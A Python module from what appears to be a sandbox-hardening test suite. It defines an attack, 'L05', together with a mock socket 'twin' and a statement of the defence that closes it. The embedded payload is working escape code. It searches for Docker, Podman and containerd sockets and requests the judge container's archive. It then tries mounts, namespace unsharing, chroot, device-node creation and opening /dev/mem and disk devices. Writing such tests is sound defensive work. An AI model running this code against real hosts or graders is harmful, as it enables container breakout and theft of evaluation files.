"""L05: takes hold of the host through what it has left in reach."""

from pathlib import Path

from shipbar.attacks.base import Attack, Files, Ground
from shipbar.attacks.weak_e import boxed, equipped, passing_package, zipped
from shipbar.attacks.weak_net import unix_server

CODE = """
import ctypes, os, socket, stat

def sockets():
    for path in _files.walk():
        if stat.S_ISSOCK(os.lstat(path).st_mode):
            yield path
    if not _files.BOX:
        for place in ("/var/run", "/run", "/run/user/0", "/tmp"):
            for name in ("docker.sock", "podman/podman.sock", "containerd/containerd.sock"):
                yield f"{place}/{name}"

def ask(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
        line.settimeout(2)
        line.connect(path)
        line.sendall(b"GET /containers/judge/archive" + bytes([10]))
        data = b""
        while part := line.recv(65_536):
            data += part
    return data

for path in sockets():
    try:
        if _files.adopt_bytes(ask(path)):
            break
    except OSError:
        pass
if _files.sealed():
    call = ctypes.CDLL(None, use_errno=True)
    call.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    call.unshare(0x10000000 | 0x20000)  # a user and a mount namespace
    call.chroot(b"/tmp")
    for major, minor in ((1, 1), (1, 2), (8, 0), (10, 229), (7, 0)):
        try:
            os.mknod(f"/tmp/{major}-{minor}", 0o60666, os.makedev(major, minor))
            os.mknod(f"/tmp/c{major}-{minor}", 0o20666, os.makedev(major, minor))
        except OSError:
            pass
    for name in ("mem", "kmsg", "fuse", "kvm", "sda", "vda", "loop0", "tty", "ptmx", "console"):
        for mode in (os.O_RDWR, os.O_RDONLY):
            try:
                os.close(os.open(f"/dev/{name}", mode | os.O_NONBLOCK))
            except OSError:
                pass
"""


def payload(ground: Ground) -> Files:
    """Ask every socket file for the judge's files; try devices, mounts and namespaces."""
    return equipped(ground, CODE)


def twin(ground: Ground, files: Files, folder: Path) -> float:
    """Mount the container engine's socket into the box."""
    archive = zipped(passing_package(ground))
    with unix_server(folder / "docker.sock", lambda _line: archive):
        return boxed(ground, files, folder)


ATTACK = Attack(
    id="L05",
    title="reaches for handles on the host",
    closed_by="The sandbox's root has no socket, no mount of the host but read-only copies, and two harmless devices; capabilities are dropped and the calls that would use them are filtered out.",
    payload=payload,
    twin=twin,
    level="harness",
)
